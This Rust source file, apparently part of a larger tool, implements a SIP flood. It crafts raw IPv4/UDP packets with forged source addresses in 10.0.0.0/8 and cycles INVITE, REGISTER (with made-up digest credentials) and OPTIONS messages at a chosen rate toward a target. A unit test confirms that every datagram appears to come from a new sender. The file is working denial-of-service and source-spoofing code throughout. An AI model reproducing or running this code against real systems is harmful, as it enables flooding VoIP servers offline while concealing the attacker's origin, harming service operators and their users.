//! A flood from addresses that are not the sender's: INVITE, REGISTER and OPTIONS in turns, each from another number in 10.0.0.0/8,
//! written with their IP headers on a raw socket.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::Result;
use engine::Rng;
use socket2::{Domain, Protocol, Socket, Type};

/// "The packet brings its own IP header" (ip(7): IPPROTO_RAW).
const IPPROTO_RAW: i32 = 255;
const IP_HEADER: usize = 20;
const UDP_HEADER: usize = 8;
const SIP_PORT: u16 = 5060;
/// Digits of what makes a message one of a kind; they stand where the text has this.
const NUMBER: &str = "0123456789";
/// The sender's address in the text: its numbers have three digits, whatever they are.
const SENDER: &str = "10.000.000.000";
const OCTETS: (u8, u8) = (100, 156);

/// Sends `rate` datagrams a second to `to`, for so long; how many that were. Called where the flood is to come from.
pub(crate) fn flood(to: Ipv4Addr, rate: f64, time: Duration, mut rng: Rng) -> Result<u64> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))?;
    socket.set_send_buffer_size(1 << 22)?;
    let address = SocketAddr::V4(SocketAddrV4::new(to, 0)).into();
    let mut packets = texts(to).map(|text| Packet::new(to, &text));
    let (started, mut sent) = (Instant::now(), 0_u64);
    loop {
        let passed = started.elapsed();
        if passed >= time {
            return Ok(sent);
        }
        let due = (passed.as_secs_f64() * rate) as u64;
        if due <= sent {
            std::thread::sleep(Duration::from_micros(500));
        }
        while sent < due {
            let packet = &mut packets[(sent % 4) as usize];
            packet.from(&mut rng);
            // What a full queue refuses is not sent again, and not counted.
            if socket.send_to(&packet.bytes, &address).is_err() {
                break;
            }
            sent += 1;
        }
    }
}

/// What is sent in turns: calls to nobody and to a user who is not there, a REGISTER with credentials that somebody made up, OPTIONS.
fn texts(to: Ipv4Addr) -> [String; 4] {
    let head = |method: &str, uri: &str, more: &str| {
        format!(
            "{method} {uri} SIP/2.0\r\nVia: SIP/2.0/UDP {SENDER}:5060;branch=z9hG4bK{NUMBER};rport\r\nMax-Forwards: 70\r\n\
             From: <sip:{NUMBER}@{SENDER}>;tag={NUMBER}\r\nTo: <{uri}>\r\nCall-ID: {NUMBER}@{SENDER}\r\nCSeq: 1 {method}\r\n\
             Contact: <sip:{NUMBER}@{SENDER}>\r\n{more}Content-Length: 0\r\n\r\n"
        )
    };
    let made_up = format!(
        "Authorization: Digest username=\"{NUMBER}\", realm=\"ringback\", nonce=\"{NUMBER}{NUMBER}\", uri=\"sip:{to}\", \
         response=\"{NUMBER}{NUMBER}{NUMBER}00\", algorithm=MD5, cnonce=\"{NUMBER}\", qop=auth, nc=00000001\r\n"
    );
    [
        head("INVITE", &format!("sip:{NUMBER}@{to}"), ""),
        head("REGISTER", &format!("sip:{to}"), &made_up),
        head("OPTIONS", &format!("sip:{to}"), ""),
        head("INVITE", &format!("sip:dave@{to}"), ""),
    ]
}

/// A datagram with its headers, and where in it the sender and its number stand.
struct Packet {
    bytes: Vec<u8>,
    numbers: Vec<usize>,
    senders: Vec<usize>,
}

impl Packet {
    fn new(to: Ipv4Addr, text: &str) -> Self {
        let length = IP_HEADER + UDP_HEADER + text.len();
        // (The kernel writes the checksum; UDP needs none over IPv4, RFC 768.)
        let mut bytes = vec![0x45, 0];
        bytes.extend((length as u16).to_be_bytes());
        bytes.extend([0, 0, 0, 0, 64, 17, 0, 0, 10, 0, 0, 0]);
        bytes.extend(to.octets());
        bytes.extend(SIP_PORT.to_be_bytes());
        bytes.extend(SIP_PORT.to_be_bytes());
        bytes.extend(((UDP_HEADER + text.len()) as u16).to_be_bytes());
        bytes.extend([0, 0]);
        let begin = bytes.len();
        bytes.extend(text.as_bytes());
        let places = |what: &str| text.match_indices(what).map(|(at, _)| begin + at).collect();
        Self { numbers: places(NUMBER), senders: places(SENDER), bytes }
    }

    /// Makes it one of a kind, from somebody new.
    fn from(&mut self, rng: &mut Rng) {
        let random = rng.next_u64();
        let [a, b, c, ..] = random.to_be_bytes().map(|byte| OCTETS.0 + byte % OCTETS.1);
        self.bytes[13..16].copy_from_slice(&[a, b, c]);
        let mut number = [0; NUMBER.len()];
        digits(random & 0xffff_ffff, &mut number);
        for at in &self.numbers {
            self.bytes[*at..at + NUMBER.len()].copy_from_slice(&number);
        }
        for at in &self.senders {
            for (part, octet) in [a, b, c].into_iter().enumerate() {
                let at = at + 3 + 4 * part;
                digits(u64::from(octet), &mut self.bytes[at..at + 3]);
            }
        }
    }
}

fn digits(mut number: u64, out: &mut [u8]) {
    for digit in out.iter_mut().rev() {
        *digit = b'0' + (number % 10) as u8;
        number /= 10;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_datagram_is_from_somebody_else() {
        let mut rng = Rng::from_u64(1);
        let [text, ..] = texts(Ipv4Addr::LOCALHOST);
        let mut packet = Packet::new(Ipv4Addr::LOCALHOST, &text);
        let mut seen = std::collections::BTreeSet::new();
        for _ in 0..100 {
            packet.from(&mut rng);
            let written = String::from_utf8_lossy(&packet.bytes[IP_HEADER + UDP_HEADER..]).into_owned();
            let [a, b, c] = [13, 14, 15].map(|at| packet.bytes[at]);
            assert!(written.contains(&format!("UDP 10.{a}.{b}.{c}:5060")), "{written}");
            assert_eq!(written.len(), text.len());
            assert!(seen.insert(written));
        }
    }
}
